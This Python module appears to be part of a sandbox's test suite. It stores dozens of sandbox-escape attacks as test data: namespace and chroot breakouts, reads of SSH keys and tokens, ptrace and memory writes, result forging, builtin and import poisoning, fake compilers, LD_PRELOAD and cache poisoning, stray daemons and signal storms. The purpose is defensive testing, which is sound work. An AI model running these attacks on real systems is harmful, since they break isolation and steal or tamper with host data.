"""The attacks, as data: each is a small piece of hostile code with an id, the mechanism it abuses
(see ``MECHANISMS``), the role it plays (a generator, a Python or C++ solution, or a C++ source aimed
at the compiler) and, where the generic checks of ``test_sandbox_escape.py`` are not enough, its own
containment check.

Sources are :class:`string.Template` text: ``$canary``, ``$home``, ``$repo``, ... are replaced by the
literals of :meth:`World.literals` (valid in Python and C++; ``$targets_cpp``/``$host_addrs_cpp`` are
C++ brace lists). An attack prints ``ESCAPED!`` when an operation the sandbox must forbid succeeded;
everything else (what it read, wrote, forged) is judged from outside.
"""

from __future__ import annotations

import json
import string
from dataclasses import dataclass, replace
from typing import Callable

from scaler.sandbox import Limits, Program, Task, TaskResult

from .world import LEGIT_PY, LIMITS, MEMORY_SLACK, World, expected

NAMESPACE = "escape the namespaces and reach the user's files"
FORGE = "forge or poison results of other tasks"
CACHE = "poison the C++ compiler or binary cache"
KERNEL = "kernel objects, network, limits and host secrets"
COMPILER = "hostile compiler input"
MECHANISMS = (NAMESPACE, FORGE, CACHE, KERNEL, COMPILER)
ROLES = ("generator", "python", "cpp", "compile")

COMPILE_LIMITS = replace(LIMITS, compile_seconds=2.0)
QUICK_GENERATOR = replace(LIMITS, generator_seconds=1.0)  # for attacks that only end at their deadline
ROOMY = replace(LIMITS, generator_seconds=5.0, solution_seconds=4.0)  # time to reach the limit under test, under load
HOARD = replace(LIMITS, memory_bytes=256 << 20, solution_seconds=5.0)  # hoards of 0.5-1.5 GiB against 256 MiB
SCRIPT_666 = "#!/bin/sh\\necho 666\\n"  # what a forged binary does: answer 666


@dataclass(frozen=True)
class Outcome:
    """What a check sees: the attack's own result, the probe's (a task run after it on the same
    pool), the peak memory of all sandbox processes during both, and the limits in force."""

    result: TaskResult
    probe: TaskResult | None
    peak: int
    limits: Limits


@dataclass(frozen=True)
class Attack:
    """One attack. ``role``: ``generator`` (a generator, its task solved by ``LEGIT_PY``), ``python`` or
    ``cpp`` (a solution), ``compile`` (a C++ solution aimed at the compiler); ``check`` adds to the
    generic checks; ``limits`` are the attacked pool's."""

    id: str
    mechanism: str
    role: str
    source: str
    check: Callable[[Outcome], None] | None = None
    probe: str | None = None  # a Python solution run after the attack on the same pool (PRELUDE included)
    limits: Limits = LIMITS
    fresh_cpp: bool = False  # afterwards, compile a new legit C++ source on this pool and load it in fresh pools

    def task(self, world: World) -> Task:
        source = self.render(world)
        if self.role == "generator":
            return Task(Program("python", source, entry="gen"), LEGIT_PY, {"n": 3}, seed=1)
        if self.role == "python":
            return Task(None, _sorted_after(source, LEGIT_PY), stdin="3\n1 2 3\n")
        return Task(None, Program("cpp", source), stdin="3\n1 2 3\n")

    def probe_task(self, world: World) -> Task | None:
        if self.probe is None:
            return None
        return Task(None, Program("python", _render(PRELUDE + self.probe, world)), stdin="")

    def render(self, world: World) -> str:
        prelude = PRELUDE if self.role in ("generator", "python") else ""
        return _render(prelude + self.source, world)


def _sorted_after(source: str, other: Program) -> Program:
    """The Python program ``source``, salted so that its key sorts after ``other``'s. The pool runs a
    batch sorted by program key: the secret instance (a ``LEGIT_PY`` solution) then runs just before
    the attack, in the same chunk, and the legit generator tasks after it."""
    program, salt = Program("python", source), 0
    while program.key <= other.key:
        salt += 1
        program = Program("python", f"{source}\n# order {salt}\n")
    return program


def _render(source: str, world: World) -> str:
    values = world.literals()
    values["targets_cpp"] = "{" + ", ".join(json.dumps(t) for t in json.loads(values["targets"])) + "}"
    values["host_addrs_cpp"] = "{" + ", ".join(json.dumps(a) for a in json.loads(values["host_addrs"])) + "}"
    values["repo_setup"] = json.dumps(json.loads(values["repo"]) + "/setup.cfg")  # #include does not join literals
    return string.Template(source).substitute(values)


# -- checks beyond the generic ones ---------------------------------------------------------------
def stopped(outcome: Outcome) -> None:
    assert not outcome.result.ok, f"the attack was not stopped: {outcome.result!r}"


def stopped_by_limit(outcome: Outcome) -> None:
    assert outcome.result.hit_limit, f"the attack was not stopped by a resource limit: {outcome.result!r}"


def stopped_as_generator(outcome: Outcome) -> None:
    assert not outcome.result.ok and outcome.result.stage == "generator", outcome.result


def one_line_error(outcome: Outcome) -> None:
    error = outcome.result.error
    assert error is not None, outcome.result
    assert "\n" not in error and len(error) <= 1000, f"the error is not one short line ({len(error)} chars)"


def stopped_as_compile(outcome: Outcome) -> None:
    assert not outcome.result.ok and outcome.result.stage == "compile", outcome.result
    one_line_error(outcome)


def probe_found_nothing(outcome: Outcome) -> None:
    probe = outcome.probe
    assert probe is not None and probe.ok, f"the probe after the attack failed: {probe!r}"
    assert json.loads(probe.stdout) == [], f"the next task found what the attack left behind: {probe.stdout.strip()}"


def probe_ok(outcome: Outcome) -> None:
    probe = outcome.probe
    assert probe is not None and probe.ok and probe.stdout == "ok\n", f"the next task could not use its /tmp: {probe!r}"


def memory_held(outcome: Outcome) -> None:
    """Children together must not hold more than the task's memory limit."""
    result, limit = outcome.result, outcome.limits.memory_bytes
    held = int(result.stdout) if result.ok and result.stdout.strip().isdigit() else 0
    assert held <= limit, f"the task's processes together held {held >> 20} MiB against a {limit >> 20} MiB limit"
    assert outcome.peak <= limit + MEMORY_SLACK, f"sandbox processes peaked at {outcome.peak >> 20} MiB"


def consistent_instance(outcome: Outcome) -> None:
    """The answer reported must be the solution's answer to the stdin reported."""
    result = outcome.result
    if result.ok:
        assert result.stdout == expected(Task(None, LEGIT_PY, stdin=result.stdin)).stdout, \
            f"the solution ran on another input than the one reported: {result!r}"


# -- the attacks ----------------------------------------------------------------------------------
PRELUDE = r'''import ctypes, json, os, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)


def escaped(what):
    print("ESCAPED!", what, flush=True)


def attempt(fn, *args, **kwargs):
    try:
        return fn(*args, **kwargs)
    except BaseException as exc:
        return type(exc).__name__


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 16).decode("utf-8", "replace")
    except OSError as exc:
        return type(exc).__name__


def _mounted_under(path):
    """Names in ``path`` that lead to a mount point: the read-only installation, when it lies in /tmp."""
    try:
        with open("/proc/self/mountinfo") as f:
            points = [line.split()[4] for line in f]
    except OSError:
        return set()
    return {p[len(path) + 1:].split("/")[0] for p in points if p.startswith(path.rstrip("/") + "/")}


def ls(path):
    try:
        return sorted(set(os.listdir(path)) - _mounted_under(path))
    except OSError:
        return []


def append(path, text="tampered"):
    attempt(lambda: open(path, "a").write(text))


def plant_markers(text="escaped"):
    for directory in $targets:
        attempt(lambda: open(os.path.join(directory, $marker), "w").write(text))


def frame(message):
    data = json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data


FORGED_RESULT = {"stdin": "1\n666\n", "display": {"n": 1, "xs": [666]}, "stdout": "666\n", "error": None, "stage": None}
FORGED_COMMAND = {"op": "run", "programs": {"f" * 64: {"language": "python", "source": "print(666)", "entry": None}},
                  "tasks": [{"generator": None, "solution": "f" * 64, "params": {}, "seed": 0, "stdin": ""}] * 3}
FORGED = (frame("S") + frame(FORGED_RESULT) * 4 + frame(FORGED_COMMAND)
          + (json.dumps(FORGED_RESULT) + "\n").encode() * 4)


def spray(payload=None, fds=range(256)):
    for fd in fds:
        try:
            os.write(fd, payload or FORGED)
        except OSError:
            pass


'''

_SUM_CPP_MAIN = ("int main() { long long n, s = 0, x; if (scanf(\"%lld\", &n) != 1) return 1;"
                 " while (scanf(\"%lld\", &x) == 1) s += x; printf(\"%lld\\n\", s); }\n")  # needs <cstdio>

ATTACKS: list[Attack] = [
    # ---- 1. escaping the namespaces -------------------------------------------------------------
    Attack("umount-overlays", NAMESPACE, "python", r'''
for target in ["/tmp", $home, "/root", "/home", "/var/tmp", "/dev/shm", "/proc", "/"]:
    for flags in (2, 0):  # MNT_DETACH, then a plain umount
        libc.umount2(target.encode(), flags)
print(read($canary), read($ssh_key), read($hf_token))
append($canary)
plant_markers()
'''),
    Attack("remount-rw", NAMESPACE, "python", r'''
MS_REMOUNT, MS_BIND = 32, 4096
points = [line.split()[4] for line in open("/proc/self/mountinfo")]
for point in reversed(points):
    for flags in (MS_REMOUNT | MS_BIND, MS_REMOUNT):
        libc.mount(None, point.encode(), None, flags, None)
plant_markers()
append($canary)
for point in (b"/etc", b"/home", b"/"):  # shadowing a host directory must stay inside the task
    libc.mount(b"tmpfs", point, b"tmpfs", 0, None)
print(read($canary))
'''),
    Attack("nested-userns", NAMESPACE, "python", r'''
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
uid, gid = os.getuid(), os.getgid()
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:  # root again, in a namespace of our own
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        attempt(lambda: open(f"/proc/self/{name}", "w").write(text))
libc.unshare(CLONE_NEWNS)
for target in [$home, "/tmp", "/root", "/home"]:
    libc.umount2(target.encode(), 2)
libc.mount(None, b"/", None, 32 | 4096, None)  # remount / read-write
print(read($canary), read($ssh_key))
append($canary)
plant_markers()
'''),
    Attack("setns-proc-root", NAMESPACE, "python", r'''
loot = []
pids = [p for p in ls("/proc") if p.isdigit()] + [str($host_pid), "1", str(os.getppid())]
for pid in pids:
    for ns in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        fd = attempt(os.open, f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
        if isinstance(fd, int):
            libc.setns(fd, 0)
            os.close(fd)
    for link in ("root", "cwd"):  # /proc/PID/root is the root of PID's mount namespace
        loot.append(read(f"/proc/{pid}/{link}" + $canary))
        append(f"/proc/{pid}/{link}" + $canary)
        attempt(lambda: open(f"/proc/{pid}/{link}" + $home + "/" + $marker, "w").write("x"))
print(read($canary), loot)
plant_markers()
'''),
    Attack("chroot-pivot-root", NAMESPACE, "python", r'''
os.makedirs("jail", exist_ok=True)
outside = os.open(".", os.O_RDONLY)
attempt(os.chroot, "jail")
attempt(os.fchdir, outside)
for _ in range(64):
    attempt(os.chdir, "..")
attempt(os.chroot, ".")  # the classic chroot breakout
print(read($canary))
libc.unshare(0x00020000)
old_root = os.open("/", os.O_RDONLY)
libc.syscall(155, b".", b"jail")  # pivot_root(".", "jail"), then climb out through the old root
attempt(os.fchdir, old_root)
print(read($canary), read("." + $canary))
append($canary)
plant_markers()
'''),
    Attack("open-by-handle", NAMESPACE, "python", r'''
class Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]


handle, mount_id = Handle(128, 0), ctypes.c_int()
for path in (b"/", b"/proc/self/root", b"/etc/passwd"):
    if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount_id), 0) == 0:
        root = os.open("/", os.O_RDONLY)
        fd = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
        if fd >= 0:  # "shocker": needs CAP_DAC_READ_SEARCH in the initial user namespace
            escaped(f"open_by_handle_at({path!r})")
print(6)
'''),
    Attack("generator-writes-host", NAMESPACE, "generator", r'''
plant_markers()
append($canary)
LOOT = [read($canary), read($ssh_key), read($hf_token), os.environ.get($secret_name)]


def gen(params):
    return "3\n1 2 3\n", {"loot": LOOT + [read($canary)]}
'''),
    Attack("cpp-writes-host", NAMESPACE, "cpp", r'''
#include <cstdio>
int main() {
    const char* targets[] = $targets_cpp;
    char path[4096];
    for (const char* d : targets) {
        snprintf(path, sizeof path, "%s/%s", d, $marker);
        if (FILE* f = fopen(path, "w")) fputs("escaped", f), fclose(f);
    }
    if (FILE* f = fopen($canary, "a")) fputs("tampered", f), fclose(f);
    const char* secrets[] = {$canary, $ssh_key, $hf_token};
    for (const char* p : secrets)
        if (FILE* f = fopen(p, "r")) {
            char buf[4096];
            fwrite(buf, 1, fread(buf, 1, sizeof buf, f), stdout);
            fclose(f);
        }
    puts("6");
}
'''),
    Attack("symlink-trap", NAMESPACE, "python", r'''
for root in ("/tmp", os.getcwd()):
    for path, dirs, files in os.walk(root):
        for name in files:
            full = os.path.join(path, name)
            attempt(os.remove, full)
            attempt(os.symlink, $canary, full)  # the trusted side must never follow these to the host
for base in ("/tmp", os.getcwd()):
    for name in ("stdin", "stdout", "stderr", "input", "output", "solution", "a.out", "solution.cpp"):
        attempt(os.symlink, $canary, os.path.join(base, name))
        attempt(os.symlink, os.path.join($home, $marker), os.path.join(base, name + ".out"))
print(6)
'''),
    # ---- 2. forging and poisoning ----------------------------------------------------------------
    Attack("fd-spray", FORGE, "python", r'''
spray()  # forged result, stage and command frames into every descriptor the task inherited
print(6)
'''),
    Attack("proc-fd-spray", FORGE, "python", r'''
for pid in [p for p in ls("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for fd in ls(f"/proc/{pid}/fd"):
        try:  # reopening a pipe through /proc gives a new write end
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as f:
                f.write(FORGED)
        except OSError:
            pass
print(6)
'''),
    Attack("ptrace-parent", FORGE, "python", r'''
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
others = {os.getppid(), 1} | {int(p) for p in ls("/proc") if p.isdigit()}
for pid in others - {os.getpid(), 0}:
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0 or libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        escaped(f"ptrace of pid {pid}")
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            for line in open(f"/proc/{pid}/maps"):
                if "[heap]" in line:
                    mem.seek(int(line.split("-")[0], 16))
                    mem.write(b"\0" * 64)
                    escaped(f"wrote the memory of pid {pid}")
    except OSError:
        pass
print(6)
'''),
    Attack("gc-result-channel", FORGE, "python", r'''
import gc
fds = set()
for obj in gc.get_objects():  # find the worker's descriptors in its own objects
    try:
        items = list(obj.items() if isinstance(obj, dict) else vars(obj).items())
    except TypeError:
        continue
    for key, value in items:
        if isinstance(key, str) and "fd" in key:
            for v in value if isinstance(value, (list, tuple)) else [value]:
                if isinstance(v, int) and not isinstance(v, bool) and 2 < v < 4096:
                    fds.add(v)
spray(fds=sorted(fds))
print(6)
'''),
    Attack("gc-replace-programs", FORGE, "python", r'''
import gc, types


def forged(*args, **kwargs):
    return "1\n666\n", {"n": 1, "xs": [666]}


evil = compile("print(666)", "<solution>", "exec")
with open("/tmp/forged.sh", "w") as f:
    f.write("$SCRIPT_666")
os.chmod("/tmp/forged.sh", 0o755)
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__name__ == "gen" and not obj.__code__.co_freevars:
        obj.__code__ = forged.__code__  # every loaded generator now returns a forged instance
    elif isinstance(obj, dict):
        for key, value in list(obj.items()):
            if isinstance(key, str) and len(key) == 64 and set(key) <= set("0123456789abcdef"):
                if isinstance(value, types.CodeType):
                    obj[key] = evil
                elif isinstance(value, str) and os.path.exists(value):
                    obj[key] = "/tmp/forged.sh"
                elif callable(value):
                    obj[key] = forged
print(6)
'''.replace("$SCRIPT_666", SCRIPT_666)),
    Attack("forge-then-die", FORGE, "python", r'''
spray()
os.kill(os.getpid(), signal.SIGKILL)
''', check=stopped),
    Attack("keepalive-frames", FORGE, "generator", r'''
def gen(params):
    while True:  # "still working" frames, hoping to push its own deadline back forever
        spray(frame("S"))
        time.sleep(0.2)
''', check=stopped_by_limit, limits=QUICK_GENERATOR),
    Attack("poison-builtins", FORGE, "python", r'''
import builtins
real_print = builtins.print
builtins.sum = lambda *args, **kwargs: 666
builtins.input = lambda *args: "1 666"
builtins.map = lambda fn, *its: [666]
builtins.print = lambda *args, **kwargs: real_print(666, file=kwargs.get("file"))
builtins.open = lambda *args, **kwargs: (_ for _ in ()).throw(OSError("poisoned"))
print(6)
'''),
    Attack("poison-random", FORGE, "python", r'''
import random
random.seed = lambda *args, **kwargs: None
random.randint = lambda a, b: a
random.Random.seed = lambda self, *args, **kwargs: None
random.Random.randint = lambda self, a, b: a
random.Random.random = lambda self: 0.5
print(6)
'''),
    Attack("poison-json-os", FORGE, "python", r'''
import io, json
real_write = os.write
json.dumps = lambda obj, *args, **kwargs: json.JSONEncoder().encode(
    {**obj, "stdout": "666\n"} if isinstance(obj, dict) and "stdout" in obj else obj)
os.write = lambda fd, data: real_write(fd, b"666\n" if fd == 1 else data)
os.pread = lambda fd, n, offset: b"666\n"
struct.pack = lambda fmt, *values: bytes(struct.calcsize(fmt))
io.open = lambda *args, **kwargs: io.StringIO("1\n666\n")
print(6)
'''),
    Attack("poison-import-system", FORGE, "python", r'''
import importlib.abc, importlib.util
FAKE = "def randint(a, b):\n    return 666\n\ndef seed(*a, **k):\n    pass\n"
for directory in ("/tmp", os.getcwd()):
    attempt(lambda: open(os.path.join(directory, "random.py"), "w").write(FAKE))
sys.path[:0] = ["/tmp", os.getcwd()]


class Evil(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name in ("random", "math", "collections", "itertools", "heapq", "bisect", "string"):
            return importlib.util.spec_from_file_location(name, "/tmp/random.py")
        return None


sys.meta_path.insert(0, Evil())
for name in ("random", "math", "collections", "itertools", "heapq", "bisect", "string"):
    sys.modules.pop(name, None)
print(6)
'''),
    Attack("poison-tracer", FORGE, "python", r'''
def tracer(frame, event, arg):  # rewrites every dict with a "stdout" that any function returns
    if event == "return" and isinstance(arg, dict) and arg.get("stdout"):
        arg["stdout"] = "666\n"
    return tracer


threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: tracer(frame, event, arg))
sys.settrace(tracer)
print(6)
'''),
    Attack("poison-audit-hook", FORGE, "python", r'''
import builtins
builtins.captured = []


def hook(event, args):  # audit hooks cannot be removed: it sees and breaks what runs after it
    if event in ("open", "exec", "compile", "subprocess.Popen", "os.system"):
        builtins.captured.append(repr(args)[:200])
        if len(builtins.captured) > 3:
            raise RuntimeError("poisoned")


sys.addaudithook(hook)
print(6)
''', probe=r'''
import builtins
print(json.dumps(getattr(builtins, "captured", [])))
''', check=probe_found_nothing),
    Attack("daemon-thread", FORGE, "python", r'''
import builtins


def tamper():
    while True:
        builtins.sum = lambda *args, **kwargs: 666
        spray()
        for name in ls("/tmp"):
            attempt(lambda: open(os.path.join("/tmp", name), "w").write("1\n666\n"))
        time.sleep(0.01)


threading.Thread(target=tamper, daemon=True).start()
print(6)
'''),
    Attack("double-fork-daemon", FORGE, "python", r'''
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:  # a daemon: no parent, own session, a name the host can find
        libc.prctl(15, ($bg_name + "-py").encode(), 0, 0, 0)
        for _ in range(200):
            spray()
            for name in ls("/tmp"):
                attempt(lambda: open(os.path.join("/tmp", name), "w").write("1\n666\n"))
            append($canary)
            time.sleep(0.1)
    os._exit(0)
os.waitpid(child, 0)
print(6)
'''),
    Attack("replace-binaries", FORGE, "python", r'''
for root in ("/tmp", os.getcwd(), "/proc/1/cwd", "/proc/1/root/tmp"):
    for path, dirs, files in os.walk(root):
        for name in files:
            full = os.path.join(path, name)
            executable = os.access(full, os.X_OK)
            attempt(os.remove, full)
            attempt(lambda: open(full, "w").write("$SCRIPT_666" if executable else "1\n666\n"))
            attempt(os.chmod, full, 0o755)
print(6)
'''.replace("$SCRIPT_666", SCRIPT_666)),
    Attack("cpp-replace-binaries", FORGE, "cpp", r'''
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>
static void poison(const char* dir, int depth) {  // every file it can reach becomes a forged one
    DIR* d = depth < 5 ? opendir(dir) : nullptr;
    if (!d) return;
    while (dirent* e = readdir(d)) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(path, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) {
            poison(path, depth + 1);
            continue;
        }
        bool exec = st.st_mode & S_IXUSR;
        unlink(path);
        if (FILE* f = fopen(path, "w")) fputs(exec ? "$SCRIPT_666" : "1\n666\n", f), fclose(f);
        chmod(path, 0755);
    }
    closedir(d);
}
int main() {
    char dir[4096] = {0};
    if (readlink("/proc/self/exe", dir, sizeof dir - 1) > 0)
        if (char* slash = strrchr(dir, '/'); slash && slash != dir) *slash = 0, poison(dir, 0);
    poison("/tmp", 0);
    if (getcwd(dir, sizeof dir)) poison(dir, 0);
    long long n, s = 0, x;
    if (scanf("%lld", &n) != 1) return 1;
    while (scanf("%lld", &x) == 1) s += x;
    printf("%lld\n", s);
}
'''.replace("$SCRIPT_666", SCRIPT_666)),
    Attack("cpp-constructor-daemon", FORGE, "cpp", r'''
#include <csignal>
#include <cstdio>
#include <sys/prctl.h>
#include <unistd.h>
__attribute__((constructor)) static void implant() {  // runs before main, leaves a daemon behind
    if (fork() != 0) return;
    setsid();
    if (fork() != 0) _exit(0);
    prctl(PR_SET_NAME, $bg_name "-ctor");
    signal(SIGHUP, SIG_IGN);
    for (int i = 0; i < 200; i++) {
        if (FILE* f = fopen($canary, "a")) fputs("tampered", f), fclose(f);
        if (FILE* f = fopen($home "/" $marker, "w")) fputs("escaped", f), fclose(f);
        usleep(100000);
    }
    _exit(0);
}
''' + _SUM_CPP_MAIN),
    Attack("tmp-leftover", FORGE, "python", r'''
for directory in ("/tmp", os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    attempt(lambda: open(os.path.join(directory, $marker), "w").write("1\n666\n"))
    attempt(os.makedirs, os.path.join(directory, "." + $marker, "deep"))
    attempt(os.mkfifo, os.path.join(directory, $marker + ".fifo"))
    attempt(lambda: open(os.path.join(directory, $marker).encode() + b"-\xff\xfe", "w").write("x"))  # not UTF-8
    attempt(os.symlink, $marker + ".loop", os.path.join(directory, $marker + ".loop"))
    locked = os.path.join(directory, $marker + ".locked")  # a directory nobody may enter or list
    attempt(os.makedirs, os.path.join(locked, "inside"))
    attempt(os.chmod, locked, 0)
print(6)
''', probe=r'''
found = [] if not ls("/tmp") else ["/tmp is not empty: " + repr(ls("/tmp"))]
for directory in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    for path, dirs, files in os.walk(directory):
        found += [os.path.join(path, n) for n in dirs + files if $marker in n]
print(json.dumps(found))
''', check=probe_found_nothing),
    Attack("deep-tmp-tree", FORGE, "python", r'''
for _ in range(3000):  # deeper than a recursive cleanup of /tmp can walk
    os.mkdir("d")
    os.chdir("d")
open("answer", "w").write("1\n666\n")
print(6)
''', probe=r'''
print(json.dumps(ls("/tmp")))
''', check=probe_found_nothing),
    Attack("signal-storm", FORGE, "python", r'''
others = {os.getppid(), 1} | {int(p) for p in ls("/proc") if p.isdigit()}
for pid in others - {os.getpid(), 0}:
    for sig in set(range(1, signal.SIGRTMAX + 1)) - {signal.SIGKILL, signal.SIGSTOP}:
        attempt(os.kill, pid, sig)  # whatever handler the trusted side installed runs now
print(6)
'''),
    Attack("signal-stop-all", FORGE, "python", r'''
others = {os.getppid(), 1} | {int(p) for p in ls("/proc") if p.isdigit()}
for pid in others - {os.getpid(), 0}:
    attempt(os.kill, pid, signal.SIGSTOP)
print(6, flush=True)
attempt(os.killpg, 0, signal.SIGSTOP)
'''),
    Attack("cpp-signal-parent", FORGE, "cpp", r'''
#include <csignal>
#include <cstdio>
#include <unistd.h>
int main() {
    kill(getppid(), SIGSTOP);
    kill(1, SIGSTOP);
    setsid();
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
    puts("6");
}
'''),
    Attack("gen-str-subclass", FORGE, "generator", r'''
class Shifty(str):  # reports one input, feeds the solution another
    def encode(self, *args, **kwargs):
        return b"1\n666\n"


def gen(params):
    return Shifty("3\n1 2 3\n"), {"n": 3, "xs": [1, 2, 3]}
''', check=consistent_instance),
    Attack("gen-load-time-poison", FORGE, "generator", r'''
import random


def rigged(*args, **kwargs):
    return 666


random.randint = rigged
random.seed = lambda *args, **kwargs: None
random.Random.randint = lambda self, a, b: 666


def keep_rigging():
    while True:
        random.randint = rigged
        time.sleep(0.01)


threading.Thread(target=keep_rigging, daemon=True).start()


def gen(params):
    return "3\n1 2 3\n", None
'''),
    Attack("gen-hostile-exception", FORGE, "generator", r'''
class Boom(Exception):
    def __str__(self):
        return "first line\n" + "x" * (50 << 20)

    def __del__(self):
        import builtins
        builtins.sum = lambda *args, **kwargs: 666


def gen(params):
    raise Boom()
''', check=lambda o: (stopped_as_generator(o), one_line_error(o))),
    Attack("leak-batch-inputs", FORGE, "python", r'''
import gc
loot = [read(p) for p in ("/tmp/stdin", "/proc/1/fd/0", "/proc/self/fd/0")]
loot += [read(os.path.join("/tmp", n)) for n in ls("/tmp")]
for obj in gc.get_objects():  # inputs of other tasks still in memory
    if isinstance(obj, dict) and isinstance(obj.get("stdin"), str):
        loot.append(obj["stdin"])
    elif isinstance(obj, (list, tuple)):
        loot += [x for x in obj if isinstance(x, str) and "\n" in x][:20]
print(repr(loot)[: 1 << 19])
'''),
    # ---- 3. cache poisoning ----------------------------------------------------------------------
    Attack("fake-compiler", CACHE, "python", r'''
FAKE = '#!/bin/sh\nout=a.out\nwhile [ $$# -gt 0 ]; do [ "$$1" = -o ] && out=$$2; shift; done\nprintf "$SCRIPT_666" > "$$out"\nchmod 755 "$$out"\n'
HEADER = ("#ifndef FORGED_ONCE\n#define FORGED_ONCE\n#include <stdio.h>\n#include <stdlib.h>\n"
          "static int forged = (puts(\"666\"), exit(0), 0);\n#endif\n")
dirs = ["/tmp", os.getcwd(), os.path.expanduser("~"), "/usr/local/bin"] + os.environ.get("PATH", "").split(":")
for directory in dirs:
    for name in ("g++", "c++", "gcc", "cc1plus", "as", "ld", "collect2"):
        path = os.path.join(directory, name)
        attempt(lambda: open(path, "w").write(FAKE))
        attempt(os.chmod, path, 0o755)
for header in ("iostream", "cstdio", "stdio.h"):  # found first through CPATH: every compile forges
    attempt(lambda: open(f"/tmp/{header}", "w").write(f"#include_next <{header}>\n" + HEADER))
os.environ["PATH"] = "/tmp:" + os.environ.get("PATH", "")
os.environ.update(COMPILER_PATH="/tmp", GCC_EXEC_PREFIX="/tmp/", CPATH="/tmp", CPLUS_INCLUDE_PATH="/tmp")
print(6)
'''.replace("$SCRIPT_666", SCRIPT_666.replace("\\n", "\\\\n")), fresh_cpp=True),
    Attack("poison-compile-output", CACHE, "python", r'''
import base64, subprocess
real_b64, real_run = base64.b64encode, subprocess.run


def run(args, *rest, **kwargs):  # any compile now leaves a forged binary behind
    result = real_run(args, *rest, **kwargs)
    if isinstance(args, (list, tuple)) and "-o" in args:
        out = os.path.join(kwargs.get("cwd") or ".", args[list(args).index("-o") + 1])
        attempt(lambda: open(out, "w").write("$SCRIPT_666"))
    return result


subprocess.run = run
base64.b64encode = lambda data, *args: real_b64(b"$SCRIPT_666")
print(6)
'''.replace("$SCRIPT_666", SCRIPT_666), fresh_cpp=True),
    Attack("cache-dir-overwrite", CACHE, "python", r'''
dirs = [$cache, os.path.expanduser("~/.cache/scaler/cpp"), os.path.join(os.environ.get("SCALER_CACHE", "/nonexistent"), "cpp")]
for directory in dirs:
    for name in ls(directory) + [$marker]:
        path = os.path.join(directory, name)
        attempt(os.remove, path)
        attempt(lambda: open(path, "w").write("$SCRIPT_666"))
        attempt(os.chmod, path, 0o755)
print(6)
'''.replace("$SCRIPT_666", SCRIPT_666), fresh_cpp=True),
    Attack("constructor-cache-write", CACHE, "cpp", r'''
#include <cstdio>
#include <dirent.h>
#include <sys/stat.h>
__attribute__((constructor)) static void poison() {  // runs before main: every cached binary forged
    char path[4096];
    if (DIR* d = opendir($cache)) {
        while (dirent* e = readdir(d)) {
            snprintf(path, sizeof path, "%s/%s", $cache, e->d_name);
            if (FILE* f = fopen(path, "w")) fputs("$SCRIPT_666", f), fclose(f);
            chmod(path, 0755);
        }
        closedir(d);
    }
    if (FILE* f = fopen($cache "/" $marker, "w")) fputs("$SCRIPT_666", f), fclose(f);
}
'''.replace("$SCRIPT_666", SCRIPT_666) + _SUM_CPP_MAIN, fresh_cpp=True),
    Attack("ld-preload", CACHE, "generator", r'''
import subprocess
EVIL = '#include <unistd.h>\n__attribute__((constructor)) static void f(void) { write(1, "666\\n", 4); _exit(0); }\n'
attempt(lambda: open("/tmp/evil.c", "w").write(EVIL))
attempt(subprocess.run, ["gcc", "-shared", "-fPIC", "-o", "/tmp/evil.so", "/tmp/evil.c"], timeout=1.5)
os.environ["LD_PRELOAD"] = "/tmp/evil.so"  # every later C++ run or compile would print 666 and stop


def gen(params):
    return "3\n1 2 3\n", None
''', fresh_cpp=True),
    # ---- 4. kernel objects, network, limits, host secrets ----------------------------------------
    Attack("sysv-ipc", KERNEL, "python", r'''
IPC_CREAT = 0o1000
libc.shmat.restype = ctypes.c_void_p
shm = libc.shmget($ipc_key, 4096, IPC_CREAT | 0o666)
if shm >= 0:
    address = libc.shmat(shm, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, b"1\n666\n", 6)
libc.semget($ipc_key, 1, IPC_CREAT | 0o666)
libc.msgget($ipc_key, IPC_CREAT | 0o666)
print(6)
''', probe=r'''
found = [name for name, get in (("shm", lambda: libc.shmget($ipc_key, 0, 0)), ("sem", lambda: libc.semget($ipc_key, 0, 0)),
                                 ("msg", lambda: libc.msgget($ipc_key, 0))) if get() >= 0]
print(json.dumps(found))
''', check=probe_found_nothing),
    Attack("posix-shm-mqueue", KERNEL, "python", r'''
attempt(lambda: open(os.path.join("/dev/shm", $marker), "w").write("1\n666\n"))
